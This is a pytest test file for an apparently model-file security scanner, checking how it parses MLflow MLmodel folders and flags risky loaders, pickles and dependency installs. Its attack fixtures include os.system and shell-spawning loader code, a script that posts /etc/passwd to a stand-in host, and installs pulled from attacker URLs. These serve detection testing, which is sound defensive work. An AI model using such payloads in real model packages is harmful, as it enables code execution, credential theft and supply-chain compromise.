"""MLflow model folders: the MLmodel YAML subset parser, what flavours load, environment installs.

Benign folders in ``tests/assets/mlflow`` are written by the real ``mlflow`` (``tests/assets/make_mlflow.py``);
attacks are MLmodel files written by hand in ``tmp_path`` with one construct changed each.
"""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest

import mlvet
import mlvet.formats.hf  # the Python handler analyses MLflow code paths
import mlvet.formats.mlflow  # registers the handler until formats/__init__ imports it
import mlvet.formats.skops
from mlvet.errors import AnalysisError
from mlvet.formats.mlflow import code_locations, parse_yaml
from mlvet.model import FileResult, Severity, Status

ASSETS = Path(__file__).resolve().parents[1] / "assets" / "mlflow"
HEADER = "mlflow_version: 2.17.0\nmodel_uuid: 0f1e2d3c\nutc_time_created: '2025-01-01 00:00:00.000000'\n"


def scan_dir(path: Path) -> dict[str, FileResult]:
    return {os.path.relpath(r.path, path): r for r in mlvet.scan(path).results}


def mlmodel(folder: Path, flavors: str, **files: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "MLmodel").write_text("flavors:\n" + textwrap.indent(textwrap.dedent(flavors), "  ") + HEADER)
    for name, text in files.items():
        p = folder / name.replace("__", "/")
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(textwrap.dedent(text))
    return folder


def found(res: FileResult) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in res.findings]


# ---- benign folders written by mlflow ------------------------------------------------------------------

EXPECTED = {
    "sklearn_skops": [],
    "sklearn_pickle": [("OTH021", Severity.LOW)],
    "sklearn_cloudpickle": [("OTH021", Severity.LOW)],
    "pyfunc_python_model": [("OTH021", Severity.LOW)],
    "pyfunc_from_code": [("OTH020", Severity.MEDIUM)],  # the model *is* a script MLflow runs on load
}


@pytest.mark.parametrize("folder", sorted(EXPECTED))
def test_benign_mlflow_folders(folder: str) -> None:
    results = scan_dir(ASSETS / folder)
    res = results["MLmodel"]
    assert (res.format, res.status) == ("mlflow-mlmodel", Status.SCANNED)
    assert found(res) == EXPECTED[folder]
    for name in ("conda.yaml", "python_env.yaml", "requirements.txt"):
        assert results[name].findings == ()
    if folder == "sklearn_skops":
        assert all(not r.findings for r in results.values())
    if folder == "pyfunc_from_code":
        script = results["model_script.py"]
        assert script.format == "python" and script.status is Status.SCANNED and script.findings == ()


@pytest.mark.parametrize("path", sorted(ASSETS.rglob("*.yaml")) + sorted(ASSETS.rglob("MLmodel")),
                         ids=lambda p: str(p.relative_to(ASSETS)))
def test_yaml_subset_parser_matches_pyyaml_on_mlflow_output(path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    text = path.read_text()
    assert parse_yaml(text) == yaml.safe_load(text)


def test_yaml_subset_parser_on_constructs_safe_dump_emits() -> None:
    yaml = pytest.importorskip("yaml")
    doc = {
        "flavors": {"python_function": {"env": {"conda": "conda.yaml"}, "code": None, "streamable": False}},
        "signature": {"inputs": '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 4]}}]' * 3},
        "metadata": {"tags": ["a", "b: c", "'quoted'", ""], "empty_list": [], "empty_map": {}, "n": 1.5, "i": -3},
        "saved_input_example_info": {"artifact_path": "input_example.json", "type": "dataframe"},
        "multi": "line one\nline two\n",
        "nested": [{"a": 1, "b": [1, 2, {"c": None}]}, [1, 2], "x"],
    }
    for width in (80, 40):
        text = yaml.safe_dump(doc, width=width)
        assert parse_yaml(text) == yaml.safe_load(text), text


@pytest.mark.parametrize(
    "text",
    ["flavors: &a {x: 1}\nb: *a\n", "flavors: !!python/object/apply:os.system ['id']\n", "%YAML 1.1\n---\na: 1\n"],
    ids=["anchors", "python-tag", "directive"],
)
def test_yaml_outside_the_subset_is_refused(text: str) -> None:
    with pytest.raises(AnalysisError):
        parse_yaml(text)


# ---- attacks -------------------------------------------------------------------------------------------


def test_custom_loader_module_and_code_folder(tmp_path: Path) -> None:
    folder = mlmodel(
        tmp_path / "m",
        """
        python_function:
          loader_module: evil_loader
          code: code
          data: data
          env: conda.yaml
        """,
        code__evil_loader="import os\nos.system('id')\n\ndef _load_pyfunc(path):\n    return None\n",
    )
    results = scan_dir(folder)
    res = results["MLmodel"]
    assert found(res) == [("OTH020", Severity.MEDIUM), ("OTH020", Severity.MEDIUM)]
    assert "evil_loader" in res.findings[0].message
    assert code_locations(str(folder / "MLmodel")) == ["code"]
    loader = results[os.path.join("code", "evil_loader")]
    assert loader.status is Status.SKIPPED or loader.format != "python"  # not .py: never imported by name


def test_code_path_module_is_analysed_as_imported_code(tmp_path: Path) -> None:
    folder = mlmodel(
        tmp_path / "m",
        """
        python_function:
          loader_module: mylib.loader
          code: code
        """,
        code__mylib__loader_py="import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
    )
    (folder / "code" / "mylib" / "loader_py").rename(folder / "code" / "mylib" / "loader.py")
    res = scan_dir(folder)[os.path.join("code", "mylib", "loader.py")]
    assert found(res) == [("HFR911", Severity.CRITICAL)]  # module level of imported code: runs on load


def test_model_from_code_script_is_analysed(tmp_path: Path) -> None:
    folder = mlmodel(
        tmp_path / "m",
        """
        python_function:
          loader_module: mlflow.pyfunc.loaders.code_model
          model_code_path: /home/alice/project/model.py
        """,
        model_py="import requests\nrequests.post('https://x.invalid', data=open('/etc/passwd').read())\n",
    )
    (folder / "model_py").rename(folder / "model.py")
    results = scan_dir(folder)
    assert found(results["MLmodel"]) == [("OTH020", Severity.MEDIUM)]
    assert "'model.py'" in results["MLmodel"].findings[0].message
    assert ("HFR912", Severity.HIGH) in found(results["model.py"])


def test_pickle_artifacts_and_custom_unpickler(tmp_path: Path) -> None:
    folder = mlmodel(
        tmp_path / "m",
        """
        pytorch:
          model_data: data
          pickle_module_name: evil.unpickler
          pytorch_version: 2.5.0
        keras:
          keras_module: evil_keras
          save_format: h5
        langchain:
          model_data: model.pkl
        """,
    )
    res = scan_dir(folder)["MLmodel"]
    assert ("OTH022", Severity.MEDIUM) in found(res)
    messages = " ".join(f.message for f in res.findings)
    assert "evil.unpickler" in messages and "evil_keras" in messages
    assert "'model.pkl' (model_data)" in messages and "'data' with torch.load" in messages


def test_environment_installs_from_urls(tmp_path: Path) -> None:
    folder = mlmodel(
        tmp_path / "m",
        """
        python_function:
          loader_module: mlflow.sklearn
          env:
            conda: conda.yaml
            virtualenv: python_env.yaml
        """,
        conda_yaml="""
        channels:
        - conda-forge
        dependencies:
        - python=3.11
        - pip:
          - mlflow==2.17.0
          - git+https://github.com/attacker/pkg.git@main
        name: mlflow-env
        """,
        requirements_txt="--extra-index-url https://pypi.attacker.invalid/simple\nscikit-learn==1.5.0\n",
    )
    (folder / "conda_yaml").rename(folder / "conda.yaml")
    (folder / "requirements_txt").rename(folder / "requirements.txt")
    res = scan_dir(folder)["MLmodel"]
    hits = [f for f in res.findings if f.rule_id == "OTH023"]
    assert len(hits) == 2
    joined = " ".join(f.message for f in hits)
    assert "git+https://github.com/attacker/pkg.git@main" in joined and "--extra-index-url" in joined


def test_malformed_mlmodel_is_an_error(tmp_path: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "MLmodel").write_text("flavors:\n  python_function: &x\n    loader_module: a\n" + HEADER)
    res = scan_dir(folder)["MLmodel"]
    assert res.status is Status.ERROR and "anchors" in res.errors[0]
    (folder / "MLmodel").write_text("flavors: [1, 2\n" + HEADER)
    assert scan_dir(folder)["MLmodel"].status is Status.ERROR
    (folder / "MLmodel").write_text("flavors:\n" + HEADER)
    res = scan_dir(folder)["MLmodel"]
    assert res.status is Status.ERROR and "no 'flavors' mapping" in res.errors[0]


def test_mlflow_save_model_live(tmp_path: Path) -> None:
    mlflow_sklearn = pytest.importorskip("mlflow.sklearn")
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit([[0.0], [1.0]], [0.0, 1.0])
    mlflow_sklearn.save_model(model, tmp_path / "m", pip_requirements=["scikit-learn"])  # no env inference
    for name, res in scan_dir(tmp_path / "m").items():
        assert res.status is not Status.ERROR, (name, res.errors)
        assert not [f for f in res.findings if f.severity >= Severity.MEDIUM], name
